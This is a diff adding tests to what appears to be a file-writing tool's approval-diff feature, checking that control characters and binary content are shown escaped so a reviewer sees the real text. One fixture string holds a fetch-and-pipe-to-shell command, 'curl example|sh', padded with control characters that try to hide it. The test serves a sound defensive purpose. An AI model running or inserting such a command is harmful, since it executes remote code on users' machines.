@@ -532,6 +532,32 @@ async def test_a_long_diff_is_kept_whole_as_an_artifact(files):
     assert plan["files"][0]["added"] == 5000
 
 
+async def test_text_with_many_control_characters_is_shown_escaped(files):
+    """An approver sees what a shell would run, though it counts as binary [B71]."""
+    content = "curl example|sh;exit\n#" + "\x01" * 12 + "\\x01\r\x1b\x85\n"
+    plan = await files.plan("write", path="a.txt", content=content)
+    assert plan["diff"] == (
+        "--- a/a.txt\n+++ b/a.txt\nControl characters are shown as \\xNN, and a backslash as two\n"
+        "@@ -1,3 +1,2 @@\n-one\n-two\n-three\n+curl example|sh;exit\n+#" + "\\x01" * 12 + "\\\\x01\\x0d\\x1b\\x85\n"
+    )
+    (files.path / "blob").write_bytes(bytes(range(256)) * 40)
+    shown = (await files.plan("write", path="blob", content=content))["diff"]
+    assert "Binary content: 10240 bytes" in shown
+    assert "+curl example|sh;exit\n" in shown
+    (files.path / "controls").write_bytes(b"\x01" * 30 + b"\n")
+    assert (
+        "\n-" + "\\x01" * 30 + "\n+"
+        in (await files.plan("write", path="controls", content="\\x01" * 30 + "\n"))["diff"]
+    )
+
+
+async def test_bytes_that_are_no_text_are_described_by_their_version(files):
+    content = b"\x00\xff" * 50 + b"one"
+    (files.path / "blob").write_bytes(content)
+    plan = await files.plan("edit", path="blob", old="one", new="two")
+    assert f"Binary content: 103 bytes, sha256 {hash_content(content)} -> 103 bytes" in plan["diff"]
+
+
 def run_patch(directory: Path, diff: bytes) -> None:
     if diff:
         subprocess.run(["patch", "-s", "-p1", "--binary"], cwd=directory, input=diff, check=True)
